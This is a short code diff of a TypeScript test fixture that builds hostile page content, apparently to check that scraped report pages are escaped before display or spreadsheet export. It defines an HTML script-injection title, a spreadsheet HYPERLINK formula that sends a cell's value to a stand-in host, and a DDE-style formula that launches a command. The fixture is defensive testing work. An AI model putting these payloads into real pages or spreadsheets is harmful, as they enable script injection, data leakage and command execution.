@@ -9,7 +9,7 @@ import { loadCorpusPage, type CorpusCountry } from './corpus.js';
  */
 export const HOSTILE_TITLE = '"><img src=x onerror=alert(1)> ]]> & <script>alert(2)</script>';
 export const FORMULA_HEADING = '=HYPERLINK("https://evil.example/?leak="&A1,"Prison and Detention Center Conditions")';
-export const FORMULA_SENTENCE = '@SUM(1+1)*cmd|\' /C calc\'!A0 torture was reported in the capital.';
+export const FORMULA_SENTENCE = "@SUM(1+1)*cmd|' /C calc'!A0 torture was reported in the capital.";
 
 export function hostilePageHtml(country: CorpusCountry = 'kazakhstan', year = 2023): string {
   let html = loadCorpusPage(country, year);
